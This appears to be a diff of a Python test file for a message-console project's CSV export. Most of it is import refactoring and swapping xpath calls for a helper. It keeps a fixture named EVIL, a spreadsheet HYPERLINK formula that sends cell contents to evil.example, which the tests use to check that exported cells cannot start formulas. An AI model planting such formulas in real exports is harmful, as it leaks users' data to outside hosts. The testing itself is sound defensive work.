@@ -9,16 +9,18 @@ import httpx2
 import pytest
 from lxml import html
 
+from amqsidecar.formats.csv_cell import cell
 from amqsidecar.http import exports
 from amqsidecar.http.access import Role
 from amqsidecar.http.masking import Masking
 from amqsidecar.model.operation import Member
 from amqsidecar.operations import export
-from amqsidecar.operations.export import MEMBERS_HEADERS, cell, members_csv
+from amqsidecar.operations.export import MEMBERS_HEADERS, members_csv
 from amqsidecar.operations.listing import list_messages
-from support.console_site import running_console
-from support.console_store import dead, keep, open_store
-from support.web_site import NO_TLS, running_site
+from support.web.console import running_console
+from support.web.console_store import dead, keep, open_store
+from support.web.page import strings
+from support.web.site import NO_TLS, running_site
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"due")'
 
@@ -75,7 +77,7 @@ def test_numbers_and_plain_texts_are_as_they_are() -> None:
 
 def test_messages_that_match_are_a_file(client: httpx2.Client) -> None:
     page = html.fromstring(client.get("/messages?destination=orders").text)
-    [address] = page.xpath("//a[contains(., 'as CSV')]/@href")
+    [address] = strings(page, "//a[contains(., 'as CSV')]/@href")
     answer = client.get(address)
     assert answer.headers["content-disposition"] == 'attachment; filename="messages.csv"'
     found = rows_of(answer)
@@ -93,7 +95,7 @@ def test_messages_that_match_are_a_file(client: httpx2.Client) -> None:
 
 def test_groups_are_a_file(client: httpx2.Client) -> None:
     page = html.fromstring(client.get("/groups").text)
-    [address] = page.xpath("//a[contains(., 'As CSV')]/@href")
+    [address] = strings(page, "//a[contains(., 'As CSV')]/@href")
     found = rows_of(client.get(address))
     assert len(found) == 4
     assert all(not row["cause_group"].lstrip().startswith(("=", "@")) for row in found)
